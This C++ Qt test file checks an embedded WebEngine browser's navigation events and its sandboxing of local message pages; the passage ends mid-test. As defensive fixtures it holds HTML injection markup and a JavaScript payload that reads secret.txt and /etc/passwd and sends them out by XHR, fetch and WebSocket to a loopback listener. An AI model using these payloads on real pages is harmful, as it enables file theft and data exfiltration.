// SPDX-License-Identifier: GPL-3.0-or-later
// The Qt WebEngine browser against a loopback HTTP server and local files: the order and
// arguments of its notifications, titles, history, failures, and the message page's safety.
#include "browser/browseraddress.h"
#include "browser/finddialog.h"
#include "browser/webenginebrowser.h"
#include "fixtures.h"
#include "modalanswerer.h"
#include "silentserver.h"
#include "pagescript.h"
#include "testenv.h"

#include <QApplication>
#include <QFile>
#include <QHttpServer>
#include <QProcess>
#include <QSslCertificate>
#include <QSslKey>
#include <QHttpServerRequest>
#include <QHttpServerResponse>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QVBoxLayout>
#include <QWebEngineScript>
#include <QWebEngineView>
#include <QtTest>

#include <memory>

namespace {

constexpr int loadTimeoutMs = 15000;
// The style of an element that takes every click on the page.
const QByteArray wholePage = "position:fixed;left:0;top:0;width:100%;height:100%";

// Every notification of one browser as a line of text, in the order they came.
class Recorder final : public QObject
{
public:
    explicit Recorder(Browser *browser)
    {
        connect(browser, &Browser::beforeNavigate2, this, [this](const QString &url) { add("before " + url); });
        connect(browser, &Browser::navigateComplete2, this, [this, browser](const QString &url) {
            // What a handler reads at this point is what the window puts in its caption.
            titles << browser->documentTitle();
            urls << browser->documentUrl();
            add("navigated " + url);
        });
        connect(browser, &Browser::documentComplete, this, [this](const QString &url) { add("document " + url); });
        connect(browser, &Browser::downloadComplete, this, [this] { add("download"); });
        connect(browser, &Browser::navigateError, this, [this](const QString &url, const QString &reason) {
            add(reason.isEmpty() ? "error " + url : "error " + url + " " + reason);
        });
        connect(browser, &Browser::statusTextChange, this, [this](const QString &text) { add("status " + text); });
        connect(browser, &Browser::progressChange, this,
                [this](int progress, int max) { add(QStringLiteral("progress %1/%2").arg(progress).arg(max)); });
        connect(browser, &Browser::commandStateChange, this, [this](int command, bool enable) {
            add(QStringLiteral("command %1 %2").arg(command).arg(enable ? "on" : "off"));
        });
        connect(browser, &Browser::newWindow2, this, [this] { add("newwindow"); });
        connect(browser, &Browser::setSecureLockIcon, this,
                [this](int level) { add(QStringLiteral("lock %1").arg(level)); });
    }

    int count(const QString &prefix) const
    {
        int n = 0;
        for (const QString &e : events)
            n += e.startsWith(prefix) ? 1 : 0;
        return n;
    }
    bool waitForDocuments(int n) const
    {
        return TestEnv::waitUntil([&] { return count("document ") >= n; }, loadTimeoutMs);
    }
    QStringList matching(const QString &prefix) const
    {
        QStringList out;
        for (const QString &e : events) {
            if (e.startsWith(prefix))
                out << e;
        }
        return out;
    }
    void clear()
    {
        events.clear();
        titles.clear();
        urls.clear();
    }

    QStringList events;
    QStringList titles; // documentTitle() at each navigateComplete2
    QStringList urls;   // documentUrl() at each navigateComplete2

private:
    void add(const QString &event) { events << event; }
};

// Takes every connection made to it on loopback and keeps the first line each one sends,
// whatever the protocol: HTTP, a WebSocket's upgrade, or nothing at all.
class ConnectionLog final : public QTcpServer
{
public:
    ConnectionLog()
    {
        connect(this, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *socket = nextPendingConnection()) {
                lines << QString();
                const qsizetype line = lines.size() - 1;
                connect(socket, &QTcpSocket::readyRead, socket, [this, socket, line] {
                    if (lines[line].isEmpty())
                        lines[line] = QString::fromLatin1(socket->readLine()).trimmed();
                });
            }
        });
        listen(QHostAddress::LocalHost, 0);
    }
    QByteArray host() const { return "127.0.0.1:" + QByteArray::number(serverPort()); }

    QStringList lines; // one for each connection, in the order they came
};

bool isOneOf(const QString &event, std::initializer_list<const char *> prefixes)
{
    for (const char *p : prefixes) {
        if (event.startsWith(QLatin1String(p)))
            return true;
    }
    return false;
}

// Checks the order the window relies on; returns what is wrong, or an empty text.
// With `sameUrl`, the end of a navigation must name the address it started with.
QString orderProblem(const QStringList &events, bool sameUrl = true)
{
    enum Stage { Idle, Loading, Failed, Navigated, Downloaded } stage = Idle;
    QString started;
    for (int i = 0; i < events.size(); ++i) {
        const QString &e = events.at(i);
        const QString where = QStringLiteral(" at %1 in\n  %2").arg(i).arg(events.join(QLatin1String("\n  ")));
        if (isOneOf(e, {"status ", "command ", "lock ", "newwindow"}))
            continue;
        if (e.startsWith(QLatin1String("before "))) {
            stage = Loading;
            started = e.mid(7);
            continue;
        }
        const QString url = e.mid(e.indexOf(QLatin1Char(' ')) + 1);
        if (e.startsWith(QLatin1String("progress "))) {
            if (stage != Loading)
                return "progress outside a navigation" + where;
        } else if (e.startsWith(QLatin1String("error "))) {
            if (stage != Loading)
                return "error out of place" + where;
            stage = Failed;
        } else if (e.startsWith(QLatin1String("navigated "))) {
            if (stage != Loading && stage != Failed)
                return "navigateComplete2 out of place" + where;
            if (sameUrl && url != started)
                return "navigateComplete2 for another address" + where;
            stage = Navigated;
        } else if (e == QLatin1String("download")) {
            if (stage != Navigated)
                return "downloadComplete out of place" + where;
            stage = Downloaded;
        } else if (e.startsWith(QLatin1String("document "))) {
            if (stage != Downloaded)
                return "documentComplete out of place" + where;
            if (sameUrl && url != started)
                return "documentComplete for another address" + where;
            stage = Idle;
        } else {
            return "unknown event" + where;
        }
    }
    return stage == Idle ? QString() : QStringLiteral("navigation left unfinished: ") + events.join(QLatin1String(", "));
}

}

class TestWebEngineBrowser : public QObject
{
    Q_OBJECT

private:
    struct Resource
    {
        QByteArray mime;
        QByteArray body;
        QHttpServerResponse::StatusCode status = QHttpServerResponse::StatusCode::Ok;
    };

    QHttpServer m_server;
    quint16 m_port = 0;
    QHash<QString, Resource> m_resources;
    QStringList m_requests; // paths the server was asked for, in order
    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<WebEngineBrowser> m_browser;
    std::unique_ptr<Recorder> m_events;

    QString http(const QString &path) const { return QStringLiteral("http://127.0.0.1:%1%2").arg(m_port).arg(path); }
    QString fileUrl(const QString &name) const { return QUrl::fromLocalFile(m_dir->filePath(name)).toString(); }
    void serve(const QString &path, const QByteArray &html,
               QHttpServerResponse::StatusCode status = QHttpServerResponse::StatusCode::Ok)
    {
        m_resources.insert(path, {"text/html", html, status});
    }
    QString writeFile(const QString &name, const QByteArray &bytes)
    {
        Fixtures::writeAll(m_dir->filePath(name), bytes);
        return m_dir->filePath(name);
    }
    bool load(const QString &address)
    {
        const int before = m_events->count("document ");
        m_browser->navigate(address);
        return m_events->waitForDocuments(before + 1);
    }
    QVariant evaluate(const QString &script) { return PageScript::evaluate(m_browser->page(), script, loadTimeoutMs); }
    // A message page in Windows-1252 without a head, as the window writes it, whose body
    // tries every way to run a script or reach the server.
    QByteArray hostileMessage() const
    {
        const QByteArray base = http(QString()).toLatin1();
        return "Message Number: 7<br>\r\nFrom: someone<br>\r\nMon, 1 Jan 2001<br>\r\nSubject caf\xe9 \x80<br><br>\r\n"
               "<script>document.title = 'script ran';</script>"
               "<img src=\"" + base + "/x.png\">"
               "<link rel=\"stylesheet\" href=\"" + base + "/style.css\">"
               "<script src=\"" + base + "/code.js\"></script>"
               "<iframe src=\"" + base + "/frame\"></iframe>"
               "<video src=\"" + base + "/clip.mp4\"></video>"
               "<meta http-equiv=\"refresh\" content=\"0; url=" + base + "/refresh\">"
               "<a id=\"away\" href=\"" + base + "/moved\">a link</a>"
               "<a id=\"blank\" target=\"_blank\" href=\"" + base + "/untitled\">a new window</a>"
               // Handlers wait for the scripts to come on when the next page is asked for.
               "<div id=\"trap\" style=\"position:fixed;left:0;top:0;width:100%;height:100%\" onmouseover=\""
               "document.title = 'handler ran'; fetch('" + base + "/x.png');"
               "window.open('" + base + "/frame'); location.href = '" + base + "/refresh';\"></div>\r\n";
    }
    // A click on the page, as the user makes it; see wholePage.
    void clickPage()
    {
        auto *view = qobject_cast<QWebEngineView *>(m_browser->widget());
        QTest::mouseClick(view->focusProxy() ? view->focusProxy() : view, Qt::LeftButton, {}, QPoint(100, 100));
    }
    static QStringList hostilePaths()
    {
        return {"/x.png", "/style.css", "/code.js", "/frame", "/clip.mp4", "/refresh"};
    }
    QStringList hostileRequests() const
    {
        QStringList seen;
        for (const QString &path : m_requests) {
            if (hostilePaths().contains(path))
                seen << path;
        }
        return seen;
    }

private slots:
    void initTestCase()
    {
        m_server.route("/<arg>", [this](const QString &, const QHttpServerRequest &request) {
            const QString path = request.url().path();
            if (path != QLatin1String("/favicon.ico")) // asked for whenever the engine gets round to it
                m_requests << path;
            if (path == QLatin1String("/moved")) {
                QHttpServerResponse moved(QHttpServerResponse::StatusCode::Found);
                moved.addHeader("Location", "/titled");
                return moved;
            }
            const auto it = m_resources.constFind(path);
            if (it == m_resources.constEnd())
                return QHttpServerResponse("text/plain", "none here", QHttpServerResponse::StatusCode::NotFound);
            return QHttpServerResponse(it->mime, it->body, it->status);
        });
        m_port = m_server.listen(QHostAddress::LocalHost, 0);
        QVERIFY(m_port != 0);
        serve("/titled", "<html><head><title>Titled Page</title></head><body>titled</body></html>");
        serve("/untitled", "<html><body>no title here</body></html>");
        serve("/scripted", "<html><body><script>document.title = 'script ran';</script>scripted</body></html>");
        serve("/missing", "<html><body>not found</body></html>", QHttpServerResponse::StatusCode::NotFound);
        serve("/anchors", "<html><head><title>Anchors</title></head><body><a id=\"down\" href=\"#part2\">down</a>"
                          "<p id=\"part2\">part 2</p></body></html>");
        serve("/popup", "<html><body><a id=\"p\" target=\"_blank\" href=\"/titled\">pop</a></body></html>");
        serve("/alert", "<html><body><script>alert('hello from the page'); document.title = 'after alert';"
                        "</script></body></html>");
        serve("/link", "<html><body><a id=\"l\" href=\"/titled\" style=\"display:block;width:100%;height:100%\">"
                       "go</a></body></html>");
    }

    void init()
    {
        m_dir = std::make_unique<QTemporaryDir>();
        QVERIFY(m_dir->isValid());
        m_requests.clear();
        m_browser = std::make_unique<WebEngineBrowser>();
        m_browser->setSilent(true);
        m_browser->widget()->resize(640, 480);
        m_browser->widget()->show();
        m_events = std::make_unique<Recorder>(m_browser.get());
    }

    void cleanup()
    {
        m_events.reset();
        m_browser.reset();
        m_dir.reset();
    }

    void addressesBecomeUrls_data()
    {
        QTest::addColumn<QString>("address");
        QTest::addColumn<QUrl>("url");
        QTest::newRow("local file") << "/data/kb/tempfile.htm" << QUrl("file:///data/kb/tempfile.htm");
        QTest::newRow("local path is cleaned") << "/data/kb//sub/../tempfile.htm"
                                               << QUrl("file:///data/kb/tempfile.htm");
        QTest::newRow("drive root") << "/" << QUrl("file:///");
        QTest::newRow("host without scheme") << "www.veltraclub.org" << QUrl("http://www.veltraclub.org");
        QTest::newRow("host and path") << "groups.example.com/group/veltraclub/"
                                       << QUrl("http://groups.example.com/group/veltraclub/");
        QTest::newRow("host and port") << "localhost:8080/x" << QUrl("http://localhost:8080/x");
        QTest::newRow("http") << "http://host/a?b=c" << QUrl("http://host/a?b=c");
        QTest::newRow("https") << "https://host/" << QUrl("https://host/");
        QTest::newRow("ftp") << "ftp://ftp.host/pub/" << QUrl("ftp://ftp.host/pub/");
        QTest::newRow("file url") << "file:///etc/hosts" << QUrl("file:///etc/hosts");
        QTest::newRow("scheme in capitals") << "HTTP://Host/Path" << QUrl("http://host/Path");
        QTest::newRow("blanks around") << "  www.host.org  " << QUrl("http://www.host.org");
        QTest::newRow("blank") << "   " << QUrl();
    }
    void addressesBecomeUrls()
    {
        QFETCH(QString, address);
        QFETCH(QUrl, url);
        QCOMPARE(BrowserAddress::toUrl(address), url);
    }

    void navigationOrder_data()
    {
        QTest::addColumn<QString>("source");   // a path on the server, or a local file name
        QTest::addColumn<QByteArray>("file");  // the local file's content; empty for the server
        QTest::addColumn<QString>("title");    // document.title at navigateComplete2
        QTest::addColumn<bool>("failed");
        QTest::newRow("http with title") << "/titled" << QByteArray() << "Titled Page" << false;
        QTest::newRow("http without title") << "/untitled" << QByteArray() << "" << false;
        QTest::newRow("title set by script") << "/scripted" << QByteArray() << "script ran" << false;
        QTest::newRow("404 page") << "/missing" << QByteArray() << "" << true;
        QTest::newRow("local with title")
            << "page.html" << QByteArray("<html><head><title>Local Page</title></head><body>x</body></html>")
            << "Local Page" << false;
        QTest::newRow("local without title") << "plain.html" << QByteArray("<p>nothing else</p>") << "" << false;
        // Scripts are off there, so the title has to be read without the page's scripts.
        QTest::newRow("message page with title in the body")
            << "tempfile.htm" << QByteArray("Message Number: 1<br>\r\n<title>Body Title</title>text\r\n")
            << "Body Title" << false;
        QTest::newRow("message page without title")
            << "tempfile.htm" << QByteArray("Message Number: 1<br>\r\nFrom: x<br>\r\n") << "" << false;
        QTest::newRow("missing local file") << "absent.html" << QByteArray() << "*" << true;
    }
    void navigationOrder()
    {
        QFETCH(QString, source);
        QFETCH(QByteArray, file);
        QFETCH(QString, title);
        QFETCH(bool, failed);
        const bool local = !source.startsWith(QLatin1Char('/'));
        if (local && !file.isEmpty())
            writeFile(source, file);
        const QString address = local ? m_dir->filePath(source) : http(source);
        const QString url = local ? fileUrl(source) : address;

        QVERIFY(load(address));
        const QString problem = orderProblem(m_events->events);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QCOMPARE(m_events->events.first(), "before " + url);
        // The status line hears of the start and the end, as it would from any browser.
        QCOMPARE(m_events->events.at(1), "status Opening page " + url + "...");
        QCOMPARE(m_events->events.last(), QStringLiteral("status Done"));
        QCOMPARE(m_events->matching("navigated "), QStringList{"navigated " + url});
        QCOMPARE(m_events->matching("error "), failed ? QStringList{"error " + url} : QStringList());
        QVERIFY(m_events->count("progress ") > 0);
        QCOMPARE(m_events->matching("progress ").last(), QStringLiteral("progress 100/100"));
        QCOMPARE(m_events->matching("lock "), QStringList{"lock 0"});
        QCOMPARE(m_events->urls, QStringList{url});
        if (title != QLatin1String("*"))
            QCOMPARE(m_events->titles, QStringList{title});
        QCOMPARE(m_browser->documentUrl(), url);
    }

    void refusedConnectionIsAnError()
    {
        quint16 closedPort = 0;
        {
            QTcpServer probe;
            QVERIFY(probe.listen(QHostAddress::LocalHost, 0));
            closedPort = probe.serverPort();
        }
        const QString url = QStringLiteral("http://127.0.0.1:%1/").arg(closedPort);
        QVERIFY(load(url));
        const QString problem = orderProblem(m_events->events);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QCOMPARE(m_events->matching("error "), QStringList{"error " + url});
    }

    void unusableAddressStillEndsTheNavigation()
    {
        const QString address = QStringLiteral("http://[::1");
        QVERIFY(!BrowserAddress::toUrl(address).isValid());
        m_browser->navigate(address);
        const QString problem = orderProblem(m_events->events, false);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QCOMPARE(m_events->matching("before "), QStringList{"before " + address});
        QCOMPARE(m_events->matching("error "), QStringList{"error " + address});
        QCOMPARE(m_events->count("document "), 1);
    }

    void backAndForwardFollowTheHistory()
    {
        // The first navigation reports both buttons, which start out enabled.
        QVERIFY(load(http("/titled")));
        QCOMPARE(m_events->matching("command "), (QStringList{"command 2 off", "command 1 off"}));
        m_events->clear();
        QVERIFY(load(http("/untitled")));
        QCOMPARE(m_events->matching("command "), QStringList{"command 2 on"});

        m_events->clear();
        m_browser->goBack();
        QVERIFY(m_events->waitForDocuments(1));
        QCOMPARE(m_events->matching("navigated "), QStringList{"navigated " + http("/titled")});
        QCOMPARE(m_events->titles, QStringList{"Titled Page"});
        QCOMPARE(m_events->matching("command "), (QStringList{"command 2 off", "command 1 on"}));

        m_events->clear();
        m_browser->goForward();
        QVERIFY(m_events->waitForDocuments(1));
        QCOMPARE(m_events->matching("navigated "), QStringList{"navigated " + http("/untitled")});
        QCOMPARE(m_events->matching("command "), (QStringList{"command 2 on", "command 1 off"}));
        const QString problem = orderProblem(m_events->events);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
    }

    void refreshReloadsTheDocument()
    {
        QVERIFY(load(http("/titled")));
        m_requests.clear();
        m_events->clear();
        m_browser->refresh();
        QVERIFY(m_events->waitForDocuments(1));
        QVERIFY(m_requests.contains("/titled"));
        QCOMPARE(m_events->titles, QStringList{"Titled Page"});
        const QString problem = orderProblem(m_events->events);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
    }

    void supersededNavigationIsNotCompleted()
    {
        SilentServer silent;
        const QString pending = QStringLiteral("http://127.0.0.1:%1/never").arg(silent.serverPort());
        m_browser->navigate(pending);
        QVERIFY(TestEnv::waitUntil([&] { return m_events->count("before ") == 1; }, loadTimeoutMs));
        QVERIFY(load(http("/titled")));
        // Nothing more may come for the overtaken navigation.
        QVERIFY(load(http("/untitled")));
        const QString problem = orderProblem(m_events->events);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QCOMPARE(m_events->matching("navigated "),
                 (QStringList{"navigated " + http("/titled"), "navigated " + http("/untitled")}));
        QCOMPARE(m_events->count("error "), 0);
    }

    void stoppedNavigationEndsOnTheDocumentInView()
    {
        QVERIFY(load(http("/titled")));
        SilentServer silent;
        m_events->clear();
        m_browser->navigate(QStringLiteral("http://127.0.0.1:%1/never").arg(silent.serverPort()));
        QVERIFY(TestEnv::waitUntil([&] { return m_events->count("before ") == 1; }, loadTimeoutMs));
        m_browser->stop();
        QVERIFY(m_events->waitForDocuments(1));
        const QString problem = orderProblem(m_events->events, false);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QCOMPARE(m_events->count("error "), 0);
        QCOMPARE(m_events->matching("document "), QStringList{"document " + http("/titled")});
        QCOMPARE(m_events->titles, QStringList{"Titled Page"});
    }

    void completionHandlerMayNavigateAgain()
    {
        // The window may start the next navigation from inside a completion handler; the
        // rest of the old sequence must then not follow the new beforeNavigate2.
        bool navigatedOnce = false;
        connect(m_browser.get(), &Browser::navigateComplete2, this, [&] {
            if (!std::exchange(navigatedOnce, true))
                m_browser->navigate(http("/untitled"));
        });
        m_browser->navigate(http("/titled"));
        QVERIFY(TestEnv::waitUntil([&] { return m_events->matching("document ").contains("document " + http("/untitled")); },
                                loadTimeoutMs));
        const QStringList events = m_events->events;
        const int second = events.indexOf("before " + http("/untitled"));
        QVERIFY(second > 0);
        for (const QString &e : events.mid(second))
            QVERIFY2(!e.endsWith(http("/titled")), qPrintable(events.join('\n')));
    }

    void fragmentLinkIsReportedAsANavigation()
    {
        QVERIFY(load(http("/anchors")));
        m_events->clear();
        evaluate("document.getElementById('down').click()");
        QVERIFY(m_events->waitForDocuments(1));
        QCOMPARE(m_events->matching("navigated "), QStringList{"navigated " + http("/anchors#part2")});
        QCOMPARE(m_events->titles, QStringList{"Anchors"});
        QCOMPARE(m_events->matching("command "), QStringList{"command 2 on"});
        const QString problem = orderProblem(m_events->events);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
    }

    void hoveredLinkBecomesTheStatusText()
    {
        QVERIFY(load(http("/link")));
        auto *view = qobject_cast<QWebEngineView *>(m_browser->widget());
        QVERIFY(view);
        QWidget *surface = view->focusProxy() ? view->focusProxy() : view;
        QTest::mouseMove(surface, QPoint(200, 200));
        QVERIFY(TestEnv::waitUntil([&] { return m_events->matching("status ").contains("status " + http("/titled")); },
                                loadTimeoutMs));
    }

    void popupOpensInItsOwnWindow()
    {
        QVERIFY(load(http("/popup")));
        m_events->clear();
        m_requests.clear();
        evaluate("document.getElementById('p').click()");
        QVERIFY(TestEnv::waitUntil([&] { return m_events->count("newwindow") == 1; }, loadTimeoutMs));
        QCOMPARE(m_browser->popups().size(), 1);
        QWebEngineView *popup = m_browser->popups().first();
        QVERIFY(TestEnv::waitUntil([&] { return popup->url() == QUrl(http("/titled")); }, loadTimeoutMs));
        QVERIFY(TestEnv::waitUntil([&] { return m_requests.contains("/titled"); }, loadTimeoutMs));
        // The pop-up's own loading is no navigation of the embedded browser: by its title it has
        // loaded, and whatever its navigation would have told has been told.
        QVERIFY(TestEnv::waitUntil([&] { return popup->title() == QStringLiteral("Titled Page"); }, loadTimeoutMs));
        QCOMPARE(m_events->count("before "), 0);
        QCOMPARE(m_browser->documentUrl(), http("/popup"));
        popup->close();
        QVERIFY(TestEnv::waitUntil([&] { return m_browser->popups().isEmpty(); }, loadTimeoutMs));
    }

    void silentModeSuppressesScriptDialogs_data()
    {
        QTest::addColumn<bool>("silent");
        QTest::newRow("silent") << true;
        QTest::newRow("not silent") << false;
    }
    void silentModeSuppressesScriptDialogs()
    {
        QFETCH(bool, silent);
        ModalAnswerer answerer;
        m_browser->setSilent(silent);
        QVERIFY(load(http("/alert")));
        QCOMPARE(m_events->titles, QStringList{"after alert"});
        QCOMPARE(answerer.texts, silent ? QStringList() : QStringList{"hello from the page"});
    }

    void localPagesRunNoScriptAndFetchNothing_data()
    {
        QTest::addColumn<QString>("fileName");
        QTest::addColumn<bool>("inMemory"); // shown from memory, standing for the file
        QTest::newRow("message page") << "tempfile.htm" << false;
        QTest::newRow("any other local page") << "lastmessage.htm" << false;
        QTest::newRow("message page from memory") << "tempfile.htm" << true;
    }
    void localPagesRunNoScriptAndFetchNothing()
    {
        QFETCH(QString, fileName);
        QFETCH(bool, inMemory);
        if (inMemory) {
            m_browser->setMessagePagePath(m_dir->filePath(fileName));
            m_browser->showMessagePage(hostileMessage());
            QVERIFY(m_events->waitForDocuments(1));
        } else {
            QVERIFY(load(writeFile(fileName, hostileMessage())));
        }
        QCOMPARE(m_events->titles, QStringList{QString()});
        QCOMPARE(evaluate("document.title").toString(), QString());
        // No charset is declared: the page must be read as Windows-1252, never guessed.
        QVERIFY(evaluate("document.body.innerText").toString().contains(QStringLiteral("Subject caf\u00e9 \u20ac")));
        QCOMPARE(evaluate("document.characterSet").toString().toLower(), QStringLiteral("windows-1252"));

        // An ordinary page from the same server still runs its script. Once it has loaded,
        // anything the local page had sent would have arrived long before.
        QVERIFY(load(http("/scripted")));
        QCOMPARE(m_events->titles.last(), QStringLiteral("script ran"));
        QCOMPARE(hostileRequests(), QStringList());
        QCOMPARE(m_events->matching("navigated "), (QStringList{"navigated " + fileUrl(fileName),
                                                                 "navigated " + http("/scripted")}));

        // Back on the local page through the history: the same restrictions.
        m_browser->goBack();
        QVERIFY(m_events->waitForDocuments(3));
        QCOMPARE(m_browser->documentUrl(), fileUrl(fileName));
        QCOMPARE(m_events->titles.last(), QString());
        m_browser->goForward();
        QVERIFY(m_events->waitForDocuments(4));
        QCOMPARE(m_events->titles.last(), QStringLiteral("script ran"));
        QCOMPARE(hostileRequests(), QStringList());
        const QString problem = orderProblem(m_events->events);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
    }

    void linkOnALocalPageStillWorks_data()
    {
        QTest::addColumn<QString>("fileName");
        QTest::newRow("message page") << "tempfile.htm";
        QTest::newRow("help page") << "help.html";
    }
    void linkOnALocalPageStillWorks()
    {
        QFETCH(QString, fileName);
        const QString path = writeFile(fileName, hostileMessage());
        QVERIFY(load(path));
        m_requests.clear();
        // The user following a link leaves the page, here through the server's redirect,
        // which is no move of the local page's own; the next page browses normally.
        evaluate("document.getElementById('away').click()");
        QVERIFY(m_events->waitForDocuments(2));
        QCOMPARE(m_browser->documentUrl(), http("/titled"));
        QCOMPARE(m_events->titles.last(), QStringLiteral("Titled Page"));
        QCOMPARE(hostileRequests(), QStringList());
        const QString problem = orderProblem(m_events->events, false);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
    }

    void linkToANewWindowFromTheMessagePageOpensHere()
    {
        // The message page opens no window; the link the user followed opens in the browser.
        QVERIFY(load(writeFile("tempfile.htm", "Message Number: 1<br>\r\n<a target=\"_blank\" href=\"" + http("/untitled").toLatin1()
                                                   + "\" style=\"" + wholePage + "\">a new window</a>")));
        clickPage();
        QVERIFY(m_events->waitForDocuments(2));
        QCOMPARE(m_browser->documentUrl(), http("/untitled"));
        QCOMPARE(m_events->count("newwindow"), 0);
        QVERIFY(m_browser->popups().isEmpty());
        const QString problem = orderProblem(m_events->events);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
    }

    void localPageReadsNoFileAndReachesNoAddress_data()
    {
        QTest::addColumn<QString>("path");  // where the page lies, in the data folder
        QTest::addColumn<bool>("followed"); // reached by a link on the message page
        QTest::newRow("lastmessage.htm, a link on the message page") << "lastmessage.htm" << true;
        QTest::newRow("a saved page, by its address") << "Saved/Club page.htm" << false;
        QTest::newRow("the message page, by its address") << "tempfile.htm" << false;
    }
    void localPageReadsNoFileAndReachesNoAddress()
    {
        // What an update server could write into lastmessage.htm: a script that reads files
        // and sends them out by every way a page has.
        QFETCH(QString, path);
        QFETCH(bool, followed);
        ConnectionLog outside;
        const QByteArray host = outside.host();
        const QByteArray readAndSend =
            "(function () { var read = '';"
            " ['secret.txt', 'file:///etc/passwd'].forEach(function (name) {"
            "  try { var x = new XMLHttpRequest(); x.open('GET', name, false); x.send(); read += x.responseText; }"
            "  catch (e) {}"
            "  fetch(name).then(function (r) { return r.text(); }).then(function (t) {"
            "   new WebSocket('ws://" + host + "/fetched?' + encodeURIComponent(t)); }, function () {}); });"
            " var sent = encodeURIComponent(read);"
            " try { var x = new XMLHttpRequest(); x.open('GET', 'http://" + host + "/xhr?' + sent); x.send(); }"
            " catch (e) {}"
            " fetch('http://" + host + "/fetch?' + sent).catch(function () {});"
            " new WebSocket('ws://" + host + "/socket?' + sent);"
            " return read; })()";
        const QDir folder = QFileInfo(m_dir->filePath(path)).absoluteDir();
        QVERIFY(folder.mkpath(QStringLiteral(".")));
        Fixtures::writeAll(folder.filePath("secret.txt"), "the secret");
        writeFile(path, "<html><head><title>Last message</title></head><body>12400"
                        "<script>document.title = 'script ran'; " + readAndSend + "</script>"
                        "<img src=\"http://" + host + "/img\"><iframe src=\"http://" + host + "/frame\"></iframe>"
                        "</body></html>");
        if (followed) {
            QVERIFY(load(writeFile("tempfile.htm", "Message Number: 1<br>\r\n<a href=\"lastmessage.htm\" style=\""
                                                   + wholePage + "\">the newest</a>")));
            clickPage();
            QVERIFY(m_events->waitForDocuments(2));
        } else {
            QVERIFY(load(m_dir->filePath(path)));
        }
        QCOMPARE(m_browser->documentUrl(), fileUrl(path));
        // The title may be told after the load ends, on a busy machine: the window's caption
        // follows it then, so what the browser holds is what counts.
        QTRY_COMPARE_WITH_TIMEOUT(m_browser->documentTitle(), QStringLiteral("Last message"), loadTimeoutMs);

        // The same script run where the page's own would run, with the page's rights: it
        // reads nothing, and nothing it sends gets out.
        QCOMPARE(evaluate(readAndSend).toString(), QString());
        QCOMPARE(evaluate("document.title").toString(), QStringLiteral("Last message"));
        serve("/reaching-out", "<script>new WebSocket('ws://" + host + "/from-the-web')</script>");
        QVERIFY(load(http("/reaching-out")));
        const QString fromTheWeb = QStringLiteral("GET /from-the-web HTTP/1.1");
        QVERIFY(TestEnv::waitUntil([&] { return outside.lines.contains(fromTheWeb); }, loadTimeoutMs));
        QCOMPARE(outside.lines, QStringList{fromTheWeb});
    }

    void refusedAddressesEndAsErrors_data()
    {
        QTest::addColumn<QString>("address");
        QTest::addColumn<QString>("reported");
        QTest::newRow("script") << "javascript://www.example.org/%0Adocument.title='ran'"
                                << "javascript://www.example.org/%0Adocument.title='ran'";
        QTest::newRow("data") << "data://text/html,<b>x</b>" << "data://text/html,<b>x</b>";
        QTest::newRow("ftp, which the engine has not") << "ftp://www.example.org/pub/" << "ftp://www.example.org/pub/";
        QTest::newRow("engine page") << "chrome://gpu" << "chrome://gpu";
        QTest::newRow("line break in the host") << "http://www.exa\nmple.org/" << "http://www.exa%0Ample.org/";
        QTest::newRow("10,000 characters") << "www." + QString(10000, QLatin1Char('a')) + ".org"
                                           << "www." + QString(10000, QLatin1Char('a')) + ".org";
    }
    void refusedAddressesEndAsErrors()
    {
        QFETCH(QString, address);
        QFETCH(QString, reported);
        QVERIFY(load(http("/titled")));
        m_events->clear();
        m_browser->navigate(address);
        QCOMPARE(m_events->matching("before "), QStringList{"before " + reported});
        QCOMPARE(m_events->matching("error "), QStringList{"error " + reported});
        QCOMPARE(m_events->count("document "), 1);
        QCOMPARE(m_events->events.last(), QStringLiteral("status Done"));
        // The page answers after whatever it had queued: a navigation would show here first.
        QCOMPARE(evaluate("document.title").toString(), QStringLiteral("Titled Page"));
        QCOMPARE(m_browser->documentUrl(), http("/titled"));
    }

    void untrustedCertificateIsRefusedWithItsReason()
    {
        REQUIRE_OR_SKIP(TestEnv::missingPrograms({QStringLiteral("openssl")}, QStringLiteral("Debian package openssl")));
        QTemporaryDir keys;
        QProcess openssl;
        openssl.setWorkingDirectory(keys.path());
        openssl.start("openssl", {"req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-subj",
                                  "/CN=127.0.0.1", "-keyout", "key.pem", "-out", "cert.pem"});
        QVERIFY2(openssl.waitForFinished(30000) && openssl.exitCode() == 0, "openssl made no certificate for the https server");
        QFile certFile(keys.filePath("cert.pem"));
        QFile keyFile(keys.filePath("key.pem"));
        QVERIFY(certFile.open(QIODevice::ReadOnly) && keyFile.open(QIODevice::ReadOnly));
        QHttpServer https;
        https.route("/", [] { return QHttpServerResponse("text/html", "<title>secret</title>"); });
        https.sslSetup(QSslCertificate(certFile.readAll()), QSslKey(keyFile.readAll(), QSsl::Rsa));
        const quint16 port = https.listen(QHostAddress::LocalHost, 0);
        QVERIFY(port != 0);

        const QString url = QStringLiteral("https://127.0.0.1:%1/").arg(port);
        QVERIFY(load(url));
        const QStringList errors = m_events->matching("error ");
        QCOMPARE(errors.size(), 1);
        QVERIFY2(errors.first().startsWith("error " + url + " "), qPrintable(errors.first()));
        QVERIFY2(errors.first().contains("certificate"), qPrintable(errors.first()));
        QCOMPARE(m_events->matching("lock "), QStringList{"lock 0"});
        QVERIFY(m_events->titles.first() != QStringLiteral("secret"));
    }

    void messagePageStaysContainedWhileLeaving()
    {
        // Asking for the next page switches scripts on while the message page is still in
        // view; until the next page arrives nothing the message page does may get out.
        const QString path = writeFile("tempfile.htm", hostileMessage());
        QVERIFY(load(path));
        SilentServer silent;
        m_browser->navigate(QStringLiteral("http://127.0.0.1:%1/slow").arg(silent.serverPort()));
